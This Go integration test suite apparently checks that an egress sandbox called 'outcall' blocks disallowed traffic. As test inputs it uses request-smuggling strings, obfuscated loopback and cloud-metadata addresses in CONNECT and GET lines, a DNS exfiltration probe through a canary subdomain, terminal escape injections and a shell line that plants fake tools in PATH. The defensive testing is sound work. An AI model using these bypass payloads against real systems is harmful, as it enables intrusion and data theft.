package integration

import (
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/netip"
	"slices"
	"strings"
	"testing"

	"github.com/miekg/dns"

	"outcall/integration/harness"
	"outcall/integration/world"
)

// K10: two names on one address, of which one is allowed.
func TestK10SharedAddress(t *testing.T) {
	b := harness.New(t)
	const a, e = "shared.allowed.test", "shared.evil.test"
	flags := append(harness.Allow(a, a+":22", a+":8443", a+":8080", a+":"+port(b.Ports.Echo)), "--no-proxy")
	for _, p := range []uint16{443, 8443} {
		_, lines := b.Attempts(flags, "tls", e, a+":"+port(p))
		if lines[0].OK || !strings.Contains(lines[0].Err, "access denied") {
			t.Errorf("port %d: a ClientHello for the other name: %+v", p, lines[0])
		}
		_, lines = b.Attempts(flags, "tls", a, a+":"+port(p))
		if !lines[0].OK {
			t.Errorf("port %d: a ClientHello for the name itself: %+v", p, lines[0])
		}
	}
	k := b.Canary(t)
	h2 := "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
	for name, parts := range map[string][]string{
		"Host":               {"GET /" + k.Word + " HTTP/1.1\r\nHost: " + e + "\r\n\r\n"},
		"Host late":          {"GET /" + k.Word, " HTTP/1.1\r\nHost: " + e + "\r\n\r\n"},
		"no Host":            {"GET /" + k.Word + " HTTP/1.0\r\n\r\n"},
		"two Hosts":          {"GET /" + k.Word + " HTTP/1.1\r\nHost: " + a + "\r\nHost: " + e + "\r\n\r\n"},
		"absolute form":      {"GET http://" + e + "/" + k.Word + " HTTP/1.1\r\nHost: " + a + "\r\n\r\n"},
		"h2 preface":         {h2 + k.Word},
		"first byte 0x16":    {"\x16", k.Word},
		"leading CRLF":       {"\r\n \tget /" + k.Word + " http/1.1\r\nHost: " + e + "\r\n\r\n"},
		"bare LF":            {"GET /" + k.Word + " HTTP/1.1\nHost: " + e + "\n\n"},
		"HTTP/0.9":           {"GET /" + k.Word + "\r\n"},
		"tab as separator":   {"GET\t/" + k.Word + "\tHTTP/1.1\r\nHost: " + e + "\r\n\r\n"},
		"second is smuggled": {"GET / HTTP/1.1\r\nHost: " + a + "\r\n\r\nGET /" + k.Word + " HTTP/1.1\r\nHost: " + e + "\r\n\r\n"},
	} {
		for _, p := range []uint16{80, 8080, 22, 443, b.Ports.Echo} {
			args := []string{"bytes", a + ":" + port(p)}
			for _, part := range parts {
				args = append(args, hex.EncodeToString([]byte(part)))
			}
			b.Sandbox(flags, append([]string{harness.Probe}, args...)...)
			if k.Arrived() {
				t.Fatalf("%s on port %d got out", name, p)
			}
		}
	}
	for _, h := range b.Origins.Hellos() {
		if h.SNI == e {
			t.Errorf("a ClientHello for %s arrived", e)
		}
	}
	for _, q := range b.Origins.Requests() {
		if q.Host == e {
			t.Errorf("a request for %s arrived: %+v", e, q)
		}
	}
	_, lines := b.Attempts(flags, "tcp", "", a+":22")
	if !lines[0].OK || lines[0].MS > 500 {
		t.Errorf("a server that speaks first: %+v", lines[0])
	}
	for _, raw := range []string{"SSH-2.0-x y\r\n", "EHLO host\r\n", "get key\r\n", "*1\r\n$4\r\nPING\r\n", "CONNECT {\"verbose\":false}\r\n"} {
		_, lines = b.Attempts(flags, "tcp", raw, a+":"+port(b.Ports.Echo))
		if !lines[0].OK || lines[0].Data != raw {
			t.Errorf("raw %q: %+v", raw, lines[0])
		}
	}
}

// T1: the allowed address with another name, another address with the allowed one.
func TestT1NameAndAddressMustAgree(t *testing.T) {
	b := harness.New(t)
	flags := append(harness.Allow("api.allowed.test"), "--no-proxy")
	m := b.Mark()
	_, lines := b.Attempts(flags, "tls", "evil.test", "api.allowed.test:443")
	if lines[0].OK {
		t.Errorf("T1: %+v", lines[0])
	}
	r, lines := b.Attempts(flags, "tls", "api.allowed.test", at(b.V4(t, "evil.test"), 443), at(b.V6(t, "evil.test"), 443))
	harness.Refused(t, lines, 1000)
	b.SomeDenial(t, r.Name, func(e harness.Event) bool { return e.IP == b.V4(t, "evil.test").String() })
	for _, h := range b.Origins.Hellos() {
		t.Errorf("T1: a ClientHello arrived: %+v", h)
	}
	evil := b.AddrsOf("evil.test")
	for _, f := range b.Since(t, m) {
		if slices.Contains(evil, f.Dst.Addr()) {
			t.Errorf("T1: %s", f)
		}
	}
}

// K11: a block on what the wire hides. Its process is gone or hidden.
func TestK11HiddenProcess(t *testing.T) {
	b := harness.New(t)
	rules := b.Rules("k11.yaml", "  - id: no-probe\n    priority: 1\n    condition: 'process.name == \"probe\"'\n    action: block\n"+allowRule("api.allowed.test"))
	m := b.Mark()
	for _, op := range []string{"tcp", "dumpable"} {
		_, lines := b.Attempts([]string{"-q", "--no-proxy", "--rules", rules}, op, "x", "api.allowed.test:80", at(b.V4(t, "api.allowed.test"), 80))
		harness.Refused(t, lines, 5000)
	}
	b.MustBeQuiet(t, m, nil)
}

func TestK11BlockOnHiddenField(t *testing.T) {
	b := harness.New(t)
	for _, cond := range []string{`http.path.startsWith("/admin")`, `http.headers["x"] == "y"`, `tls.ech`, `tls.sni == "other.test"`} {
		rules := b.Rules("k11.yaml", "  - id: hidden\n    priority: 1\n    condition: '"+cond+"'\n    action: block\n"+allowRule("api.allowed.test"))
		r := b.Sandbox([]string{"-q", "--no-proxy", "--rules", rules}, curl("https://api.allowed.test/")...)
		hidden := strings.HasPrefix(cond, "http.")
		if ok := r.Code == 0; ok == hidden {
			t.Errorf("block on %s over TLS: curl's code %d", cond, r.Code)
		}
	}
	if n := len(b.Origins.Requests()); n != 2 {
		t.Errorf("%d requests arrived, not 2", n)
	}
}

// K12: what a question carries beyond itself.
func TestK12QuestionsAreComposed(t *testing.T) {
	b := harness.New(t)
	k := b.Canary(t)
	script := fmt.Sprintf("%[1]s dns udp 10.200.0.1:53 A aPi.AlLoWeD.tEsT; %[1]s dns udp 10.200.0.1:53 TXT api.allowed.test %[2]s.api.allowed.test; %[1]s dns udp 10.200.0.1:53 NULL api.allowed.test",
		harness.Probe, k.Word)
	r := b.Sandbox(append(allowAPI, "--no-proxy"), "sh", "-c", script).Must(t, 0)
	for _, l := range r.Lines(t)[1:] {
		if strings.Contains(l.Data, "=") && !strings.Contains(l.Data, "ede=") {
			t.Errorf("K12: %+v", l)
		}
	}
	k.MustNotArrive(t)
	asked := b.DNS.Log()
	if len(asked) == 0 {
		t.Fatal("no question arrived")
	}
	for _, q := range asked {
		m := q.Msg
		if m.Opcode != dns.OpcodeQuery || q.Name != "api.allowed.test" || m.Question[0].Qclass != dns.ClassINET || len(m.Answer)+len(m.Ns) != 0 {
			t.Errorf("K12: upstream got %v", m)
		}
		if o := m.IsEdns0(); o != nil && len(o.Option) != 0 {
			t.Errorf("K12: options went upstream: %v", o.Option)
		}
	}
}

// K13: targets of the explicit proxy.
func TestK13ProxyTargets(t *testing.T) {
	b := harness.New(t)
	m := b.Mark()
	flags := append(harness.Allow("api.allowed.test", "0.0.0.0/0", "::/0"), "-q")
	for _, line := range []string{
		"CONNECT 127.1:443 HTTP/1.1", "CONNECT 0x7f.1:443 HTTP/1.1", "CONNECT 2130706433:80 HTTP/1.1", "CONNECT 0:80 HTTP/1.1", "CONNECT 127.0.0.1:22 HTTP/1.1",
		"CONNECT [::ffff:a9fe:a9fe]:80 HTTP/1.1", "CONNECT [fe80::1%25eth0]:80 HTTP/1.1", "CONNECT [::1]:80 HTTP/1.1", "CONNECT api.allowed.test:0 HTTP/1.1",
		"CONNECT api.allowed.test:65616 HTTP/1.1", "CONNECT user@api.allowed.test:443 HTTP/1.1", "CONNECT 10.200.0.1:8080 HTTP/1.1",
		"CONNECT host.outcall.internal:22 HTTP/1.1", `CONNECT api.allowed.test\0.evil.test:443 HTTP/1.1`, "CONNECT api.allowed.test evil.test:443 HTTP/1.1",
		"CONNECT evil.test:443 HTTP/1.1", "GET http://169.254.169.254/ HTTP/1.1", "GET http://2852039166/ HTTP/1.1", "GET http://0251.0376.0251.0376/ HTTP/1.1",
		"GET http://user:pw@evil.test/ HTTP/1.1", "TRACE http://evil.test/ HTTP/1.1\r\nMax-Forwards: 0", "GET / HTTP/1.1",
	} {
		_, lines := b.Attempts(flags, "connect", "10.200.0.1:8080", line)
		if l := lines[0]; l.OK && strings.HasPrefix(l.Data, "200") {
			t.Errorf("K13: %q: %q", line, l.Data)
		}
	}
	b.MustBeQuiet(t, m, onlyQuestions(b.World))

	// Plain HTTP inside a tunnel is judged as such.
	inner := hex.EncodeToString([]byte("GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"))
	b.Attempts(harness.Allow("api.allowed.test:80"), "connect", "10.200.0.1:8080", "CONNECT api.allowed.test:80 HTTP/1.1", inner)
	for _, q := range b.Origins.Requests() {
		t.Errorf("K13: a request in a tunnel arrived: %+v", q)
	}
}

// restricted are addresses that no careless rule may open, and some private ones.
var restricted = []string{
	"127.0.0.1", "127.8.8.8", "::1", "::ffff:127.0.0.1", "169.254.169.254", "169.254.1.1", "fe80::1", "fd00:ec2::254", "100.100.100.200", "168.63.129.16",
	"192.0.0.192", "0.0.0.0", "::", "224.0.0.1", "ff02::1", "255.255.255.255", "10.1.2.3", "172.16.0.1", "192.168.1.1", "100.64.0.1", "fc00::1",
	"64:ff9b::7f00:1", "2002:7f00:1::1", world.HostV4.Addr().String(), world.HostV6.Addr().String(),
}

// K14: restricted addresses against all that could open them by mistake.
func TestK14RestrictedAddresses(t *testing.T) {
	b := harness.New(t)
	all := b.Rules("all.yaml", "  - id: all\n    condition: 'true'\n    action: allow\n")
	for name, flags := range map[string][]string{
		"observe": {"-q", "--mode", "observe"}, "true": {"-q", "--rules", all}, "everything": harness.Allow("0.0.0.0/0", "::/0"),
	} {
		m := b.Mark()
		var targets []string
		for _, a := range restricted {
			targets = append(targets, at(netip.MustParseAddr(a), 8), at(netip.MustParseAddr(a), 443))
		}
		r, lines := b.Attempts(append(flags, "--no-proxy"), append([]string{"tcp", "x"}, targets...)...)
		for _, l := range lines {
			if l.OK {
				t.Errorf("K14 %s: %+v", name, l)
			}
		}
		for _, e := range b.Events(t, r.Name) {
			if e.Verdict == "deny" && !e.Structural {
				t.Errorf("K14 %s: not structural: %s", name, e)
			}
		}
		b.MustBeQuiet(t, m, onlyQuestions(b.World)) // for the NAT64 prefix, where rules open IPv6 without a name
	}
	// Answers with such addresses are stripped.
	b.DNS.Set("inward.test", world.Records{Addrs: []netip.Addr{netip.MustParseAddr("127.0.0.1"), netip.MustParseAddr("169.254.169.254"), netip.MustParseAddr("10.0.0.1")}})
	_, lines := b.Attempts(append(harness.Allow("inward.test"), "--no-proxy"), "dns", "udp", "10.200.0.1:53", "A", "inward.test")
	mustLack(t, "K14: the answer", lines[0].Data, "127.0.0.1", "169.254.169.254", "10.0.0.1")
}

// K15: an answer of which one address is blocked.
func TestK15BlockedAddressInAnswer(t *testing.T) {
	b := harness.New(t)
	addrs := b.AddrsOf("many.allowed.test")
	rules := b.Rules("k15.yaml", fmt.Sprintf("  - id: not-that\n    priority: 1\n    condition: 'cidr(\"%s/32\").contains(network.ip)'\n    action: block\n", addrs[2])+
		allowRule("many.allowed.test"))
	m := b.Mark()
	flags := []string{"-q", "--rules", rules}
	for _, extra := range [][]string{{"--no-proxy"}, nil} {
		script := `for i in 1 2 3 4 5 6 7 8; do curl -sS --max-time 10 -o /dev/null http://many.allowed.test/ || true; done`
		b.Sandbox(append(slices.Clone(flags), extra...), "sh", "-c", script)
	}
	n := 0
	for _, f := range b.Since(t, m) {
		if f.Dst.Addr() == addrs[2] {
			t.Errorf("K15: the blocked address was dialled: %s", f)
		}
		if f.Proto == "tcp" {
			n++
		}
	}
	if n == 0 {
		t.Error("K15: nothing arrived at all")
	}
}

// K16: the machine's own upstream proxy.
func TestK16UpstreamProxy(t *testing.T) {
	b := harness.New(t)
	b.Setenv("HTTPS_PROXY=http://user:k16-secret@proxy.allowed.test:8080", "NO_PROXY=")
	r := b.Sandbox(allowAPI, "sh", "-c", "env | grep -i proxy").Must(t, 0)
	mustLack(t, "K16: environment", r.Stdout, "k16-secret", "proxy.allowed.test")
	mustContain(t, "K16: environment", r.Stdout, "10.200.0.1:8080")
	if b.DNS.Asked("evil.test") {
		t.Error("K16: a question for a denied name")
	}
}

// K17: a flood of questions.
func TestK17Flood(t *testing.T) {
	b := harness.New(t)
	const asked = 20000
	script := harness.Probe + fmt.Sprintf(" sweep 10.200.0.1:53 %d flood.evil.test & ", asked) + "curl -sS --max-time 30 https://api.allowed.test/; wait"
	r := b.Sandbox(append(harness.Allow("api.allowed.test"), "--no-proxy"), "sh", "-c", script).Must(t, 0)
	mustContain(t, "K17: the allowed request", r.Stdout, apiBody)
	denied, lines, allowed := 0, 0, false
	for _, e := range b.Events(t, r.Name) {
		lines++
		switch {
		case e.Denied() && e.Count > 1:
			denied += e.Count
		case e.Denied():
			denied++
		case e.Event == "overflow" || e.Event == "limit":
			denied += e.Count
		case e.Event == "verdict" && e.Layer == "flow" && e.Verdict == "allow":
			allowed = true
		}
	}
	if lines > 5000 || !allowed {
		t.Errorf("K17: %d lines, the allow is there: %v", lines, allowed)
	}
	if denied == 0 {
		t.Error("K17: nothing was counted")
	}
	if v := b.Outcall("log", "verify", b.AuditFile(r.Name)); v.Code != 0 {
		t.Errorf("log verify: %s", v.Stderr)
	}
}

// K20 and P7: what comes from inside is printed escaped.
func TestK20Escapes(t *testing.T) {
	b := harness.New(t)
	evil := "\x1b]52;c;ZXZpbA==\x07\x1b[31m\u202e"
	script := fmt.Sprintf("cp %s \"./$1\"; \"./$1\" tcp x 8.8.8.8:443; curl -sS -H \"Host: $1\" http://api.allowed.test/; curl -sS http://%s.evil.test/", harness.Probe, "x")
	cmd, name := b.SandboxCommand([]string{"--allow", "api.allowed.test", "-v"}, "sh", "-c", script, "sh", evil)
	r := b.Start(cmd).Wait()
	for what, text := range map[string]string{
		"stderr": r.Stderr, "log": b.Outcall("log", name).Stdout, "log --json": b.Outcall("log", name, "--json").Stdout,
		"explain": b.Outcall("explain", "https://"+evil+"/", "--allow", "api.allowed.test").Stdout,
	} {
		for _, bad := range []string{"\x1b", "\x07", "\u202e"} {
			if what == "stderr" {
				// The command's own messages are its own; ours are the lines that begin with our name.
				for l := range strings.Lines(text) {
					if strings.HasPrefix(l, "outcall") && strings.Contains(l, bad) {
						t.Errorf("K20: our line has %q: %q", bad, l)
					}
				}
				continue
			}
			if strings.Contains(text, bad) {
				t.Errorf("K20: %s has %q: %q", what, bad, text)
			}
		}
	}
}

// K21: transparent, through CONNECT and in absolute form: the same verdict.
func TestK21SameVerdictEveryWay(t *testing.T) {
	b := harness.New(t)
	ip := b.V4(t, "four.allowed.test")
	for _, cond := range []string{
		`tls.sni == "four.allowed.test"`, `network.ip == "` + ip.String() + `"`, `http.path == "/p"`, `process.name == "curl"`, `tls.version == "1.3"`, `network.port == 80`,
	} {
		rules := b.Rules("k21.yaml", "  - id: block\n    priority: 1\n    condition: '"+cond+"'\n    action: block\n"+allowRule("four.allowed.test"))
		for _, scheme := range []string{"https", "http"} {
			var ok []bool
			for _, more := range [][]string{{"--noproxy", "*"}, nil, {"-p"}} {
				r := b.Sandbox([]string{"-q", "--rules", rules}, curl(append(more, "-f", "-o", "/dev/null", scheme+"://four.allowed.test/p")...)...)
				ok = append(ok, r.Code == 0)
			}
			if ok[0] != ok[1] || ok[1] != ok[2] {
				t.Errorf("K21: %s under a block on %s: transparent %v, proxy %v, tunnel %v", scheme, cond, ok[0], ok[1], ok[2])
			}
		}
	}
}

// K22: an operator's tools are not found where an agent could write.
func TestK22PlantedTools(t *testing.T) {
	b := harness.New(t)
	p := b.StartSandbox(allowAPI, "sh", "-c", `for d in "$HOME/.local/bin" .; do mkdir -p $d; for n in nft tcpdump; do printf '#!/bin/sh\ntouch %s\n' "$HOME/planted" > $d/$n; chmod +x $d/$n; done; done; echo ready; exec sleep 1000`)
	p.WaitFor("ready")
	b.Setenv("PATH=" + b.Home + "/.local/bin:.:/usr/bin:/bin")
	b.Outcall("--session", p.Name, "bridge", "exec", "--", "nft", "list", "ruleset")
	b.Outcall("--session", p.Name, "bridge", "exec", "--", "tcpdump", "--version")
	b.Outcall("--session", p.Name, "bridge", "exec", "--", b.Home+"/.local/bin/nft")
	if hashes(t, []string{b.Home + "/planted"})[b.Home+"/planted"] != "open "+b.Home+"/planted: no such file or directory" {
		t.Error("K22: a planted tool was run")
	}
	nft := b.Outcall("--session", p.Name, "bridge", "nft").Must(t, 0)
	mustContain(t, "bridge nft", nft.Stdout, "table inet outcall", "policy drop")
	b.Outcall("stop", p.Name).Must(t, 0)
	p.Wait()
}

func TestExplainAgrees(t *testing.T) {
	b := harness.New(t)
	for target, want := range map[string]bool{"https://api.allowed.test/": true, "https://evil.test/": false, "tcp://git.allowed.test:22": true, "udp://8.8.8.8:853": false} {
		r := b.Outcall("explain", target, "--allow", "api.allowed.test", "--allow", "git.allowed.test:22", "--json").Must(t, 0)
		var got map[string]any
		if err := json.Unmarshal([]byte(r.Stdout), &got); err != nil {
			t.Errorf("%s: %v: %s", target, err, r.Stdout)
		}
		if says := strings.Contains(r.Stdout, `"allow"`); says != want {
			t.Errorf("explain %s: %s", target, r.Stdout)
		}
	}
}
